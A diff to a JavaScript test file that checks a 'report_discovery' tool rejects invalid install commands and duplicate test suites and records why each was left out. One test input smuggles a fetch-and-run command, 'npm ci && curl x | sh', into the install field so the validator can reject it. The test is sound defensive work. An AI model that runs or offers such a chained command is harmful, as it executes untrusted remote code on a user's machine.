@@ -83,8 +83,24 @@ describe('report_discovery', () => {
     });
   });
 
-  it('refuses an invalid install command and a second report', () => {
-    assertRefused('report_discovery', { ...minimal, install: 'npm ci && curl x | sh' }, /is not a plain install command/, { state });
+  it('is taken without an install and suites that cannot be, and says why', () => {
+    const suite = { name: 'unit', command: 'make', files: ['test/**'] };
+    const good = { ...suite, command: 'npm test' };
+    const given = { ...minimal, install: 'npm ci && curl x | sh', suites: [good, good, { ...suite, name: 'made' }] };
+    const { facts, text } = call('report_discovery', given, { state: read });
+    const [context] = facts.flatMap((fact) => (fact.fact === 'context.discovered' ? [fact.context] : []));
+    assert.deepEqual([context?.install, context?.suites], ['', [good]]);
+    const left = [
+      /^Install: .*is not a plain install command/,
+      /^Suite unit: another one has its name\.$/,
+      /^Suite made: "make" is not a plain/,
+    ];
+    assert.equal(context?.leftOut?.length, left.length);
+    for (const [n, pattern] of left.entries()) assert.match(context.leftOut[n] ?? '', pattern);
+    assert.match(text, /\nLeft out\. Install: [^\n]*\nLeft out\. Suite unit/);
+  });
+
+  it('refuses a second report', () => {
     assertRefused('report_discovery', minimal, 'Discovery was taken already; nothing more is needed.');
   });
 
